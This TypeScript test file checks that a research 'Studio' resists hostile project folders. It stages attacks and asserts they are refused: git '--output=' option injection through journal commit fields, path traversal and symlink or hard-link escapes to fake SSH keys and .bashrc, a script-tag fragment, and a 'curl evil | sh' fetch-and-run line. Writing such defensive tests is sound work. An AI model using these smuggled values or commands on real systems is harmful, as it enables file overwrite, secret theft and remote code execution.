// A project folder is untrusted input: it may come from a colleague, a tarball or a cloned repository, and
// agent-written code ran inside it. Each test here performs one attack on a real repository and a real Studio.
import { appendFileSync, existsSync, linkSync, mkdirSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { afterEach, describe, expect, it } from 'vitest';
import { createWorkspace } from '../../src/core/agent/workspace.js';
import { guardDiff } from '../../src/core/agent/diff-guard.js';
import type { Studio } from '../../src/core/studio/index.js';
import { testStudio } from '../helpers/studio.js';
import { diffCommits } from '../../src/core/git/diff.js';
import { resolveCommit } from '../../src/core/git/head.js';
import { readRunRecord } from '../../src/core/journal/read.js';
import { runPaths } from '../../src/core/project/paths.js';
import type { Experiment } from '../../src/shared/experiment.js';
import { makeGitRun } from '../fixtures/make-run.js';
import { cleanupTempDirs, git, makeRepo, tempDir } from '../helpers/project.js';
import { fixtureConfig } from '../fixtures/make-run.js';

let studio: Studio | null = null;
afterEach(async () => {
  await studio?.dispose();
  studio = null;
  cleanupTempDirs();
});

async function openStudio(dir: string): Promise<Studio> {
  ({ studio } = await testStudio());
  await studio.api.openProject({ dir });
  return studio;
}

const BASE = 'LR = 0.01\nprint("val_bpb: 1.0")\n';

async function gitRun(dir: string) {
  return makeGitRun(dir, {
    tag: 'night',
    baseline: 1.0,
    baselineTrainPy: BASE,
    steps: [
      { status: 'keep', metric: 0.9, description: 'LR up', trainPy: BASE.replace('0.01', '0.02') },
      { status: 'discard', metric: 0.95, description: 'LR down', trainPy: BASE.replace('0.01', '0.005') },
    ],
  });
}

const line = (event: unknown) => `${JSON.stringify(event)}\n`;

describe('a journal with git options in its commits', () => {
  it('never reaches git: the event is skipped and counted, the diff and the report write no file', async () => {
    const dir = tempDir('ar-proj-');
    const run = await gitRun(dir);
    const loot = path.join(tempDir('ar-loot-'), 'bashrc');
    const journal = runPaths(dir, 'night').journal;
    const good = run.experiments[1]!;
    const hostile: Experiment = { ...good, parentCommit: `--output=${loot}`, commit: `--output=${loot}` };
    appendFileSync(journal, line({ type: 'experiment-end', at: good.finishedAt, experiment: hostile }));
    appendFileSync(journal, line({ type: 'best', at: good.finishedAt, id: 1, commit: `--output=${loot}`, metric: 0.1 }));
    appendFileSync(journal, line({ type: 'experiment-end', at: good.finishedAt, experiment: { ...good, id: 7.5 } }));
    appendFileSync(journal, line({ type: 'experiment-end', at: good.finishedAt, experiment: { ...good, status: 'keep"><script>' } }));

    const rec = await readRunRecord(dir, 'night');
    const lines = readFileSync(journal, 'utf8').trimEnd().split('\n').length;
    expect(rec.badLines).toEqual([lines - 3, lines - 2, lines - 1, lines]);
    expect(rec.experiments.get(1)!.parentCommit).toBe(good.parentCommit);
    expect(rec.bestCommit).toBe(good.commit);

    const s = await openStudio(dir);
    const diff = await s.api.getDiff({ tag: 'night', id: 1, against: 'parent' });
    expect(diff.diff).toContain('+LR = 0.02');
    await s.api.getDiff({ tag: 'night', id: 1, against: 'baseline' });
    await s.api.exportReport({ tag: 'night', format: 'html' });
    await s.api.exportReport({ tag: 'night', format: 'md' });
    expect((await s.api.previewReport({ tag: 'night' })).content).toContain('+LR = 0.02');
    expect(existsSync(loot)).toBe(false);
  });

  it('git refuses an option-like revision even if one got past the journal', async () => {
    const dir = tempDir('ar-proj-');
    const run = await gitRun(dir);
    const loot = path.join(tempDir('ar-loot-'), 'bashrc');
    await expect(diffCommits(dir, `--output=${loot}`, run.experiments[1]!.commit!)).rejects.toThrow(/Refusing .* as a git revision/);
    await expect(diffCommits(dir, run.startCommit, `--output=${loot}`)).rejects.toThrow(/Refusing/);
    expect(await resolveCommit(dir, `--output=${loot}`)).toBeNull();
    expect(existsSync(loot)).toBe(false);
  });
});

describe('a journal with paths outside the run folder', () => {
  it('refuses log and transcript paths that climb out, and links that lead out', async () => {
    const dir = tempDir('ar-proj-');
    const run = await gitRun(dir);
    const secretDir = tempDir('ar-secret-');
    const secret = path.join(secretDir, 'id_ed25519');
    writeFileSync(secret, 'PRIVATE KEY MATERIAL\n');
    const notJson = path.join(secretDir, 'notes.txt');
    writeFileSync(notJson, 'password=hunter2 and more secrets\n');
    const paths = runPaths(dir, 'night');
    const good = run.experiments[1]!;
    const climb = path.relative(paths.dir, secret);
    expect(climb.startsWith('..')).toBe(true);

    // 1. A traversal path in the journal: the schema refuses the event, the good record stays.
    appendFileSync(paths.journal, line({ type: 'experiment-end', at: good.finishedAt, experiment: { ...good, logPath: climb, transcriptPath: climb } }));
    expect((await readRunRecord(dir, 'night')).experiments.get(1)!.logPath).toBe('logs/1.log');

    // 2. The files the journal names are links that lead out of the run folder.
    mkdirSync(paths.logsDir, { recursive: true });
    mkdirSync(paths.agentDir, { recursive: true });
    symlinkSync(secret, path.join(paths.logsDir, '1.log'));
    symlinkSync(notJson, path.join(paths.agentDir, '2.json'));
    symlinkSync(path.join(secretDir, 'later'), path.join(paths.logsDir, '2.log')); // dangling: its target may appear later
    appendFileSync(paths.journal, line({ type: 'experiment-proposed', at: good.finishedAt, id: 2, commit: run.experiments[2]!.commit, description: 'x', hypothesis: '', usage: null, proposalMs: 1, changedFiles: ['train.py'], transcriptPath: 'agent/2.json' }));

    const s = await openStudio(dir);
    await expect(s.api.readLogLines({ tag: 'night', id: 1, start: 0, count: 10 })).rejects.toThrow(/outside the run's folder/);
    await expect(s.api.logInfo({ tag: 'night', id: 1 })).rejects.toThrow(/outside the run's folder/);
    await expect(s.api.readLogLines({ tag: 'night', id: 2, start: 0, count: 10 })).rejects.toThrow(/outside the run's folder/);
    const transcript = s.api.getTranscript({ tag: 'night', id: 2 });
    await expect(transcript).rejects.toThrow(/outside the run's folder/);
    await transcript.catch((err: Error) => expect(err.message).not.toContain('hunter2'));

    // A log inside the run folder still reads, and a transcript that is not JSON never echoes its content.
    writeFileSync(path.join(paths.logsDir, '0.log'), 'val_bpb: 1.0\n');
    expect((await s.api.readLogLines({ tag: 'night', id: 0, start: 0, count: 10 })).lines).toEqual(['val_bpb: 1.0']);
    appendFileSync(paths.journal, line({ type: 'experiment-proposed', at: good.finishedAt, id: 1, commit: good.commit, description: 'x', hypothesis: '', usage: null, proposalMs: 1, changedFiles: ['train.py'], transcriptPath: 'agent/1.json' }));
    writeFileSync(path.join(paths.agentDir, '1.json'), 'password=hunter2');
    const bad = s.api.getTranscript({ tag: 'night', id: 1 });
    await expect(bad).rejects.toThrow(/not valid JSON/);
    await bad.catch((err: Error) => expect(err.message).not.toContain('hunter2'));

    // A log or transcript that is there but cannot be read says so, rather than showing an empty page.
    rmSync(path.join(paths.logsDir, '0.log'));
    mkdirSync(path.join(paths.logsDir, '0.log'));
    await expect(s.api.readLogLines({ tag: 'night', id: 0, start: 0, count: 10 })).rejects.toThrow(/^Cannot read the log of #0 \(logs\/0\.log\): EISDIR/);
    await expect(s.api.logInfo({ tag: 'night', id: 0 })).rejects.toThrow(/^Cannot read the log of #0 \(logs\/0\.log\): EISDIR/);
    rmSync(path.join(paths.agentDir, '1.json'));
    mkdirSync(path.join(paths.agentDir, '1.json'));
    await expect(s.api.getTranscript({ tag: 'night', id: 1 })).rejects.toThrow(/^Cannot read the transcript of #1 \(agent\/1\.json\): EISDIR/);
    // Not written yet: empty, as before.
    rmSync(path.join(paths.logsDir, '0.log'), { recursive: true });
    expect(await s.api.readLogLines({ tag: 'night', id: 0, start: 0, count: 10 })).toMatchObject({ lines: [], totalLines: 0 });
  });
});

describe('small doors out of the project', () => {
  it('program.md that is a link (or has hard links) is neither read nor written through', async () => {
    const dir = tempDir('ar-proj-');
    await gitRun(dir);
    const victim = path.join(tempDir('ar-home-'), '.bashrc');
    writeFileSync(victim, 'export PATH=/usr/bin\n');
    symlinkSync(victim, path.join(dir, 'program.md'));
    const s = await openStudio(dir);
    await expect(s.api.readProgram({})).rejects.toThrow(/program\.md is a symbolic link/);
    await expect(s.api.saveProgram({ text: 'curl evil | sh' })).rejects.toThrow(/symbolic link/);
    expect(readFileSync(victim, 'utf8')).toBe('export PATH=/usr/bin\n');
    rmSync(path.join(dir, 'program.md'));
    linkSync(victim, path.join(dir, 'program.md'));
    await expect(s.api.saveProgram({ text: 'curl evil | sh' })).rejects.toThrow(/hard links/);
    expect(readFileSync(victim, 'utf8')).toBe('export PATH=/usr/bin\n');
    rmSync(path.join(dir, 'program.md'));
    await s.api.saveProgram({ text: '# mine\n' });
    expect((await s.api.readProgram({})).text).toBe('# mine\n');
  });

  it('the workspace refuses hard links and protected or hidden names in any letter case; the guard refuses links', async () => {
    const dir = makeRepo({ 'train.py': 'lr = 1\n', 'prepare.py': 'EVAL = 1\n', 'notes.md': 'context\n' });
    const secret = path.join(tempDir('ar-secret-'), 'id_ed25519');
    writeFileSync(secret, 'PRIVATE\n');
    const ws = createWorkspace(dir, dir, { editable: ['*.py', '**/*.py'], context: ['notes.md', '**/*'], protected: ['prepare.py'] });
    linkSync(secret, path.join(dir, 'notes2.md'));
    await expect(ws.readFile('notes2.md')).rejects.toThrow(/more than one hard link/);
    for (const p of ['PREPARE.PY', 'Prepare.py', '.GIT/hooks/x.py', '.Git/config.py', '.AutoResearch/x.py']) {
      await expect(ws.writeFile(p, 'x = 1\n'), p).rejects.toThrow(/may not be written/);
    }
    await expect(ws.readFile('.GIT/config')).rejects.toThrow(/not readable/);
    // A trainer replaced the editable file with a hard link to a secret: the guard refuses to commit it.
    rmSync(path.join(dir, 'notes2.md'));
    rmSync(path.join(dir, 'train.py'));
    linkSync(secret, path.join(dir, 'train.py'));
    const config = fixtureConfig({ files: { editable: ['train.py'], protected: ['prepare.py'] } });
    const check = await guardDiff({ worktree: dir, config, protectedHashes: new Map() });
    expect(check.ok).toBe(false);
    if (!check.ok) expect(check.reason).toMatch(/links instead of files \(train\.py\)/);
    rmSync(path.join(dir, 'train.py'));
    symlinkSync(secret, path.join(dir, 'train.py'));
    expect((await guardDiff({ worktree: dir, config, protectedHashes: new Map() })).ok).toBe(false);
    git(dir, 'checkout', '--', 'train.py');
  });
});
